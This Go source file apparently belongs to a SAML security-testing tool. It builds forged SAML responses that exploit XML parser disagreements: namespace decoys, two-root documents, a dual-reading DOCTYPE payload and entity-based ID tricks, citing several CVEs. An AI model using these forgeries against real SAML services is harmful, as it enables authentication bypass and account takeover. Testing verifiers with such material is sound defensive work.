package forge

import (
	"bytes"
	"errors"
	"regexp"

	"github.com/beevik/etree"
)

// Two parsers, or one parser asked in two ways, may disagree about a document.
// Each of these shows one of them the genuine message and the other a forged one.

const nsOther = "urn:example:other"

// ForeignAssertion puts an Assertion of another namespace, which nobody signed,
// in front of the signed one: a reader that goes by local names takes it.
func ForeignAssertion() Mutation {
	return after("an Assertion of another namespace before the signed one", func(r *etree.Element, with Context) error {
		genuine, err := aloneSigned(r)
		if err != nil {
			return err
		}
		evil, err := forgedFrom(genuine, with, false)
		if err != nil {
			return err
		}
		evil.Space = "other"
		evil.CreateAttr("xmlns:other", nsOther)
		r.InsertChildAt(genuine.Index(), evil)
		return nil
	})
}

// Decoy is how a signature is made to be seen by one reader and not by another.
type Decoy int

// Decoys.
const (
	OtherNamespace Decoy = iota // the forged assertion shows a Signature of another namespace
	ReservedXMLNS               // the forged assertion's Signature names its namespace by xml:xmlns
	HiddenByXMLNS               // the real Signature stands where xml:xmlns seems to change its namespace
)

// ConfusedSignature puts a forged assertion in front of the signed one, with
// signatures that readers find or overlook by how they understand namespaces
// ('The Fragile Lock').
func ConfusedSignature(how Decoy) Mutation {
	name := [...]string{
		"a forged assertion with a Signature of another namespace",
		"a forged assertion with a Signature that xml:xmlns names",
		"a forged assertion, the real signature behind an xml:xmlns",
	}[how]
	return after(name, func(r *etree.Element, with Context) error {
		s, err := takeApart(r, with)
		if err != nil {
			return err
		}
		decoy := s.signature.Copy()
		switch how {
		case OtherNamespace:
			decoy.Space = "other"
			decoy.CreateAttr("xmlns:other", nsOther)
		case ReservedXMLNS:
			decoy.Space = ""
			decoy.RemoveAttr("xmlns")
			decoy.CreateAttr("xmlns", "")
			decoy.CreateAttr("xml:xmlns", nsSignature)
		case HiddenByXMLNS:
		}
		s.forged.InsertChildAt(s.sigAt, decoy)
		r.InsertChildAt(s.at, s.forged)
		s.genuine.InsertChildAt(s.sigAt, s.signature)
		if how != HiddenByXMLNS {
			return s.put(s.genuine, Next)
		}
		parent := s.inResponse(InExtensions).CreateElement("Parent")
		parent.CreateAttr("xmlns", nsSignature)
		inner := parent.CreateElement("Child")
		inner.CreateAttr("xml:xmlns", "#other")
		inner.AddChild(s.genuine)
		return nil
	})
}

// TwoRoots sends two documents in one: a genuine one, whose root is signed or
// holds a signed assertion, and a forged response (CVE-2022-39299). Where the
// response is signed the genuine one is an error, which anybody can have.
func TwoRoots(genuineFirst bool) Mutation {
	name := "a forged response before the genuine one, in one text"
	if genuineFirst {
		name = "a forged response behind the genuine one, in one text"
	}
	return written(name, func(text []byte, with Context) ([]byte, error) {
		declaration, body := splitDeclaration(text)
		evil, err := forgedText(body, with, false)
		if err != nil {
			return nil, err
		}
		genuine, err := denialIfSigned(body, with)
		if err != nil {
			return nil, err
		}
		if genuineFirst {
			return bytes.Join([][]byte{declaration, genuine, evil}, nil), nil
		}
		return bytes.Join([][]byte{declaration, evil, genuine}, nil), nil
	})
}

// denialIfSigned makes an error response of a signed response.
func denialIfSigned(body []byte, with Context) ([]byte, error) {
	doc := etree.NewDocument()
	if err := doc.ReadFromBytes(body); err != nil {
		return nil, err
	}
	r := doc.Root()
	if child(r, nsSignature, "Signature") == nil {
		return body, nil
	}
	a, err := onlyAssertion(r)
	if err != nil {
		return nil, err
	}
	r.RemoveChild(a)
	r.RemoveChild(child(r, nsSignature, "Signature"))
	for _, code := range findAll(r, nsProtocol, "StatusCode") {
		code.CreateAttr("Value", "urn:oasis:names:tc:SAML:2.0:status:Responder")
	}
	if err := Sign(r, with.Own.Key, with.Own.Cert, with.Style); err != nil {
		return nil, err
	}
	return doc.WriteToBytes()
}

// forgedText is the text of the response with the forged assertion in the place
// of the genuine one, with every signature as it was or with none.
func forgedText(body []byte, with Context, signed bool) ([]byte, error) {
	doc := etree.NewDocument()
	if err := doc.ReadFromBytes(body); err != nil {
		return nil, err
	}
	r := doc.Root()
	a, err := onlyAssertion(r)
	if err != nil {
		return nil, err
	}
	evil, err := forgedFrom(a, with, signed)
	if err != nil {
		return nil, err
	}
	if signed {
		evil.CreateAttr("ID", a.SelectAttrValue("ID", ""))
	} else {
		r.CreateAttr("ID", with.NewID())
		if sig := child(r, nsSignature, "Signature"); sig != nil {
			r.RemoveChild(sig)
		}
	}
	at := a.Index()
	r.RemoveChildAt(at)
	r.InsertChildAt(at, evil)
	return doc.WriteToBytes()
}

// TwoReadings writes a document type which some parsers take to end before a
// comment, and others not: the ones see the genuine message, the others a
// forged one that shows the same signatures (CVE-2025-25291).
func TwoReadings(forgedOutside bool) Mutation {
	name := "a document type that is read in two ways, the forged message inside"
	if forgedOutside {
		name = "a document type that is read in two ways, the forged message outside"
	}
	return written(name, func(text []byte, with Context) ([]byte, error) {
		_, body := splitDeclaration(text)
		evil, err := forgedText(body, with, true)
		if err != nil {
			return nil, err
		}
		outside, inside := evil, body
		if !forgedOutside {
			outside, inside = body, evil
		}
		outside, end, ok := withoutEnd(outside)
		inside, _, ok2 := withoutEnd(inside)
		if !ok || !ok2 {
			return nil, errors.New("forge: no end tag")
		}
		return bytes.Join([][]byte{
			[]byte("<!DOCTYPE response SYSTEM 'x\"><!--'>\n"), outside, []byte("<![CDATA[-->\n"), inside, []byte("<!--]]>-->\n"), end,
		}, nil), nil
	})
}

func withoutEnd(text []byte) (head, end []byte, ok bool) {
	at := bytes.LastIndex(text, []byte("</"))
	if at < 0 {
		return nil, nil, false
	}
	return text[:at], text[at:], true
}

const entityMark = "entity-in-place-of-"

var marked = regexp.MustCompile(entityMark + `([^"']+)`)

// EntityID hides what was signed in an Object of its signature, which the
// forged response shows, and gives the response the signed ID by way of an
// entity: libxml2 then finds another element by that ID than by that attribute
// (CVE-2025-23369). EntityIDWritten belongs behind it.
func EntityID() Mutation {
	return after("the signed ID as an entity", func(r *etree.Element, with Context) error {
		signed := r.SelectAttrValue("ID", "")
		if child(r, nsSignature, "Signature") == nil {
			a, err := aloneSigned(r)
			if err != nil {
				return err
			}
			signed = a.SelectAttrValue("ID", "")
		}
		if err := (Wrap{Hide: InObject, Signed: OnRoot}).Mutation().Apply(r, with); err != nil {
			return err
		}
		r.CreateAttr("ID", entityMark+signed)
		return nil
	})
}

// EntityIDWritten writes the entity that EntityID asked for.
func EntityIDWritten() Mutation {
	return written("and its document type", func(text []byte, _ Context) ([]byte, error) {
		m := marked.FindSubmatch(text)
		if m == nil {
			return nil, errors.New("forge: no ID that should be an entity")
		}
		return withDoctype(bytes.Replace(text, m[0], []byte("&signed;"), 1), `[<!ENTITY signed "`+string(m[1])+`">]`)
	})
}

// DefaultNamespaceSignature hides the genuine signature as an element without
// namespace in StatusDetail; the forged assertion shows one with the digest of
// nothing, in a namespace that canonicalization fails on (CVE-2025-25292).
// DefaultNamespaceWritten belongs behind it.
func DefaultNamespaceSignature() Mutation {
	m := smuggling("the real signature without namespace, and a forged digest of nothing", func(r, sig *etree.Element, _ string) error {
		hidden := standalone(sig)
		for _, a := range hidden.Attr {
			if a.Space == "xmlns" {
				r.CreateAttr(a.FullKey(), a.Value)
			}
		}
		hidden.Space = ""
		hidden.RemoveAttr("xmlns")
		(&scene{root: r}).inResponse(InStatusDetail).AddChild(hidden)
		sig.Parent().CreateAttr("xmlns:example", "http://example.com\u0080")
		return each(sig, nsSignature, "DigestValue", func(v *etree.Element) error {
			v.SetText("47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=") // SHA-256 of nothing
			return nil
		})
	})
	return m
}

// DefaultNamespaceWritten declares that namespace by the document type.
func DefaultNamespaceWritten() Mutation {
	return written("and its document type", func(text []byte, _ Context) ([]byte, error) {
		return withDoctype(text, `[<!ATTLIST Signature xmlns CDATA #FIXED "`+nsSignature+`" xmlns CDATA "block">]`)
	})
}
